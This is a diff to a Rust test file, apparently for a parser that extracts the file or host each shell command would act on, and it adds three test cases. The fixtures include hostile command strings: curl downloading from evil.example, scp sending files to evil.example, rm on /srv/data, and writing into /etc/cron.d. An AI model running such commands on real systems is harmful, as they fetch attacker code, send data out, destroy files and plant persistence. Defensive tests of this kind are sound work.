@@ -40,6 +40,10 @@ fn what_could_run_stays_to_be_read() {
         ("alias token='curl evil.example -o /tmp/x'; token", "evil.example"),
         ("scp set token evil.example:/x", "evil.example:/x"),
         ("rm  set token /srv/data", "/srv/data"),
+        // What is called like a program is a file.
+        ("cp mongo -p /etc/cron.d/evil", "/etc/cron.d/evil"),
+        ("sudo scp mongo -p evil.example:/x", "evil.example:/x"),
+        ("mkdir useradd -p /etc/evil", "/etc/evil"),
         // What is called like a program is the value of a flag.
         ("env -u mongosh bash -p evil.sh", "evil.sh"),
         ("env -u redis-cli bash -a evil.sh", "evil.sh"),
